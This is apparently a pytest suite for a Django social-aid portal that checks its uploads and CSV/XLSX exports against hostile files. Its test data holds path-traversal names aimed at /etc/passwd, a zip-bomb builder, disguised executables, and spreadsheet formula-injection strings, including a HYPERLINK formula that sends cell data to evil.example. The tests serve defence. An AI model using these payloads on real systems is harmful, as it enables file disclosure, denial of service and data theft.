"""Files that cannot hurt (issue 17, item 7): one test per class of bad file.

Every upload of the portal is tried: a household document (the scans of intake, home
visits, spot-check and credit evidence all go through ``document_upload``), a
department's snapshot (CSV or XLSX) and a bank's return file. Every CSV and XLSX the
portal writes is tried with cells that start like a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from aid_portal import exports, uploads
from aid_portal.errors import DomainError
from cases.casework import documents
from cases.models import Document, Person
from cases.payments import bankfiles
from cases.payments import services as payments
from cases.payments.models import PaymentAccount
from tests.cases import conftest as case_fixtures
from tests.cases.conftest import PNG
from verification.feeds import services as feeds
from verification.feeds.catalogue import load_catalogue
from verification.feeds.models import Feed, Snapshot
from verification.feeds.services import snapshot_import

pytestmark = pytest.mark.django_db

# The case fixtures: a county policy, the proof catalogue, families, payments.
policy = case_fixtures.policy
proof_items = case_fixtures.proof_items
make_family = case_fixtures.make_family
enrol = case_fixtures.enrol
paying = case_fixtures.paying
finance = case_fixtures.finance
abc = case_fixtures.abc

THIS_MONTH = timezone.localdate().replace(day=1)
HOSTILE = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2"]
# A department's file with one good row and one bad row whose name is a formula.
GOOD_ID = "110101199003070097"


@pytest.fixture(autouse=True)
def _files_here_in_english(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    with translation.override("en"):
        yield


@pytest.fixture
def hrss(db) -> Feed:
    load_catalogue()
    return Feed.objects.select_related("department").get(department__code="hrss")


def _document(people, family, name: str, content: bytes) -> Document:
    return documents.document_upload(
        actor=people.caseworker_a,
        household=family.application.household,
        kind="other",
        upload=SimpleUploadedFile(name, content, content_type="image/png"),
    )


def _snapshot(people, feed, name: str, content: bytes) -> Snapshot:
    upload = SimpleUploadedFile(name, content, content_type="text/csv")
    return feeds.snapshot_upload(actor=people.feedadmin, feed=feed, upload=upload)


def _return(people, content: bytes):
    # Refused before any roster is looked at: no roster needed.
    return bankfiles.return_apply(
        actor=people.auditor, roster_id=0, bank_id=0, file_name="r.csv", content=content
    )


def _zip_bomb(inflated: int) -> bytes:
    """A workbook-shaped zip of a few kB that unpacks to ``inflated`` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * inflated)
    return buffer.getvalue()


def _refused(call, field: str = "file") -> str:
    with pytest.raises(DomainError) as refused:
        call()
    assert refused.value.field == field
    return refused.value.message


# --- too large --------------------------------------------------------------------------------


def test_a_file_too_large_is_refused_by_every_upload(people, make_family, hrss, monkeypatch):
    family = make_family()
    monkeypatch.setattr(documents, "MAX_BYTES", 64)
    monkeypatch.setattr(feeds, "MAX_UPLOAD_BYTES", 64)
    monkeypatch.setattr(bankfiles, "RETURN_MAX_BYTES", 64)
    documents_before = Document.objects.count()
    big_png = PNG + b"\0" * 100
    assert "larger than" in _refused(lambda: _document(people, family, "a.png", big_png))
    assert Document.objects.count() == documents_before
    big_csv = ("身份证号,姓名\n" + f"{GOOD_ID},马一\n" * 10).encode()
    assert "larger than" in _refused(lambda: _snapshot(people, hrss, "h.csv", big_csv))
    assert not Snapshot.objects.exists()
    assert "larger than" in _refused(lambda: _return(people, b"line\n" * 20))


# --- inflates too much ------------------------------------------------------------------------


def test_a_workbook_that_inflates_too_much_is_refused_with_a_clear_message(
    people, hrss, settings, client
):
    settings.UPLOAD_MAX_INFLATED_BYTES = 2**20
    bomb = _zip_bomb(3 * 2**20)
    assert len(bomb) < 20_000  # a few kB that would unpack to 3 MB
    message = _refused(lambda: _snapshot(people, hrss, "h.xlsx", bomb))
    assert "unpacks to 3 MB, more than the 1 MB allowed" in message
    assert not Snapshot.objects.exists()
    # On the page, in Chinese, on the file field; nothing stored.
    client.force_login(people.feedadmin)
    with translation.override("zh-hans"):
        response = client.post(
            reverse("verification:feed-upload", args=["hrss"]),
            {"file": SimpleUploadedFile("h.xlsx", bomb)},
            HTTP_ACCEPT_LANGUAGE="zh-hans",
        )
    assert response.status_code == 400
    assert "解压后" in response.content.decode()
    assert not Snapshot.objects.exists()


def test_a_workbook_that_inflates_within_the_limit_is_taken(people, hrss, settings):
    settings.UPLOAD_MAX_INFLATED_BYTES = 4 * 2**20
    assert _snapshot(people, hrss, "h.xlsx", _zip_bomb(3 * 2**20)).status == Snapshot.Status.LOADING


# --- content not matching the declared type -----------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("h.xlsx", PNG, "a .xlsx must be an Excel workbook"),
        ("h.csv", PNG, "a .csv must be text"),  # an image renamed
        ("h.csv", "身份证号,姓名\n".encode() + b"\0\0\0\0", "a .csv must be text"),
        ("h.csv", b"%PDF-1.4\n" + b"x" * 64, "a .csv must be text"),
        ("h.csv", _zip_bomb(10), "name it .xlsx"),
        ("h.png", PNG, "Upload a CSV or XLSX file"),
    ],
    ids=["png-as-xlsx", "png-as-csv", "nul-bytes-csv", "pdf-as-csv", "zip-as-csv", "png"],
)
def test_a_department_file_whose_content_is_not_its_type_is_refused(
    people, hrss, name, content, says
):
    assert says in _refused(lambda: _snapshot(people, hrss, name, content))
    assert not Snapshot.objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("scan.png", "身份证号,姓名\n马一\n".encode()),  # text named .png
        ("scan.pdf", b"MZ\x90\x00" + b"\0" * 64),  # a program named .pdf
        ("scan.jpg", _zip_bomb(10)),  # an archive named .jpg
    ],
    ids=["text-as-png", "exe-as-pdf", "zip-as-jpg"],
)
def test_a_scan_whose_content_is_not_a_scan_is_refused(people, make_family, name, content):
    family = make_family()
    before = Document.objects.count()
    message = _refused(lambda: _document(people, family, name, content))
    assert "whatever its name says" in message
    assert Document.objects.count() == before


@pytest.mark.parametrize(
    "content", [PNG, b"\x00\x01line,1\n", _zip_bomb(10)], ids=["png", "nul", "zip"]
)
def test_a_bank_return_that_is_not_text_is_refused(people, content):
    assert "must be text" in _refused(lambda: _return(people, content))


# --- hostile names ----------------------------------------------------------------------------

HOSTILE_NAMES = [
    ("../../etc/passwd", "passwd"),
    ("/etc/passwd", "passwd"),
    ("..\\..\\windows\\win.ini", "win.ini"),
    ("pass\x00wd", "passwd"),
    ("a\nb\r\x1b[31m", "ab[31m"),
]


def _inside(root: Path, stored: str, hostile: str) -> None:
    path = (root / stored).resolve()
    assert path.is_relative_to(root.resolve()) and path.is_file()
    for part in ("..", "etc", "passwd", "windows", "\x00"):
        assert part not in stored
    assert not Path("/etc/passwd").samefile(path)


@pytest.mark.parametrize(("name", "shown"), HOSTILE_NAMES)
def test_a_hostile_scan_name_is_never_used_as_a_path(people, make_family, settings, name, shown):
    family = make_family()
    document = _document(people, family, name + ".png", PNG)
    _inside(Path(settings.MEDIA_ROOT), document.file.name, name)
    assert document.original_name == shown + ".png"


@pytest.mark.parametrize(("name", "shown"), HOSTILE_NAMES)
def test_a_hostile_snapshot_name_is_never_used_as_a_path(people, hrss, settings, name, shown):
    snapshot = _snapshot(people, hrss, name + ".csv", f"身份证号,姓名\n{GOOD_ID},马一\n".encode())
    _inside(Path(settings.MEDIA_ROOT), snapshot.file.name, name)
    assert snapshot.original_name == shown + ".csv"


def test_a_name_is_kept_only_to_be_shown():
    assert uploads.display_name(None) == ""
    assert uploads.display_name("C:\\Users\\马\\低保 名单.xlsx") == "低保 名单.xlsx"
    assert len(uploads.display_name("x" * 500)) == 200


# --- formula injection in every export ----------------------------------------------------------


def _csv_cells(content: bytes, encoding: str = "utf-8-sig") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode(encoding))) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _csv_escaped(content: bytes, hostile: list[str], encoding: str = "utf-8-sig") -> None:
    cells = _csv_cells(content, encoding)
    for value in hostile:
        assert "'" + value in cells, (value, cells)
    assert not [c for c in cells if c.startswith(exports.FORMULA_STARTS)], cells


def _xlsx_escaped(content: bytes, hostile: list[str]) -> None:
    cells = _xlsx_cells(content)
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    for value in hostile:
        # Read back through XML, a carriage return is a line feed: text all the same.
        assert value.replace("\r", "\n") in texts, (value, texts)
    assert not [cell for cell in cells if cell.data_type == "f"]


def _export_helpers(kind: str) -> None:
    rows = [[value, 1, value] for value in HOSTILE]
    if kind == "csv_bytes":
        _csv_escaped(exports.csv_bytes(header=["名称", "n", "备注"], rows=rows), HOSTILE)
    elif kind == "csv_response":
        response = exports.csv_response(filename="x.csv", header=["=h"], rows=rows)
        _csv_escaped(response.content, [*HOSTILE, "=h"])
    elif kind == "xlsx_bytes":
        sheet = exports.Sheet("表", ["=h"], rows, facts=[["=fact"]])
        _xlsx_escaped(exports.xlsx_bytes(sheets=[sheet]), [*HOSTILE, "=h", "=fact"])
    else:
        response = exports.xlsx_response(filename="x.xlsx", sheets=[exports.Sheet("表", [], rows)])
        _xlsx_escaped(response.content, HOSTILE)


@pytest.mark.parametrize(
    "kind",
    # Every list's export (aid_portal.listing), the overview, statistics, batch findings,
    # spot-check campaigns, rewards and templates are written by these four.
    ["csv_bytes", "csv_response", "xlsx_bytes", "xlsx_response"],
)
def test_the_export_helpers_write_formulas_as_text(kind):
    _export_helpers(kind)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_bank_file_writes_a_formula_name_as_text(paying, people, places, finance, abc, form):
    hostile = '=HYPERLINK("http://evil.example/?"&B2,"点此")'
    family = paying()
    person = family.applicant.person
    Person.objects.filter(pk=person.pk).update(name=hostile)
    PaymentAccount.objects.filter(household_id=family.application.household_id).update(
        holder_name=hostile
    )
    roster = payments.roster_prepare(
        actor=people.caseworker_a,
        township_id=places.township_a.pk,
        month=THIS_MONTH,
    )
    payments.roster_county_approve(actor=people.auditor, roster_id=roster.pk)
    roster = payments.roster_finance_approve(actor=finance, roster_id=roster.pk)
    content, _kind, _name = bankfiles.bank_file(
        actor=people.auditor, roster=roster, bank=abc, form=form
    )
    if form == "csv":
        _csv_escaped(content, [hostile], encoding=abc.file_encoding)
    else:
        _xlsx_escaped(content, [hostile])


def test_the_bad_rows_of_an_import_come_back_with_formulas_as_text(people, hrss, client):
    lines = ["身份证号,姓名,项目,数值,日期"] + [
        f"{value},{value},pension,1,2026-01-31" for value in ("=1+2", "@SUM(A1)", "+1", "-1+1")
    ]
    snapshot = _snapshot(people, hrss, "h.csv", ("\n".join(lines) + "\n").encode())
    snapshot_import(snapshot_id=snapshot.pk)
    snapshot.refresh_from_db()
    assert snapshot.rows_quarantined == 4, snapshot.error
    client.force_login(people.feedadmin)
    response = client.get(reverse("verification:snapshot-bad-rows", args=[snapshot.pk]))
    assert response.status_code == 200
    _xlsx_escaped(response.content, ["=1+2", "@SUM(A1)", "+1", "-1+1"])
